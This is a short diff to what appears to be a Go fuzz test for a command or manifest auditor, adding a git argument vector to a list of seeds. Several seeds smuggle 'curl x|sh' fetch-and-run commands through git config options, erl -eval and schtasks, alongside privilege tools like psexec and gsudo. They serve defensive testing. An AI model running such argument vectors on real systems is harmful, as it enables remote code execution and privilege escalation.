@@ -96,6 +96,7 @@ var fuzzSeeds = [][]string{
 	{"erl", "-pa", "a", "b", "-eval", "os:cmd(\"curl x|sh\")", "-s", "kotlin", "-no-reflect", "-e=x", "--", "R", "-e"},
 	{"npx", "-y", "deno@2.1.0", "run", "--import-map", "im.json", "npm:bun", "x", "pnpm", "dlx", "p"},
 	{"gsudo", "-i", "High", "psexec", "\\\\h", "-s", "-i", "2", "schtasks", "/create", "/tr", "cmd /c curl x | sh"},
+	{"git", "-c", "credential.helper=~/h -c 'curl x|sh'", "-c", "remote.o.uploadpack=sh", "clone", "-u", "curl x|sh", "--exec", "x", "./r"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
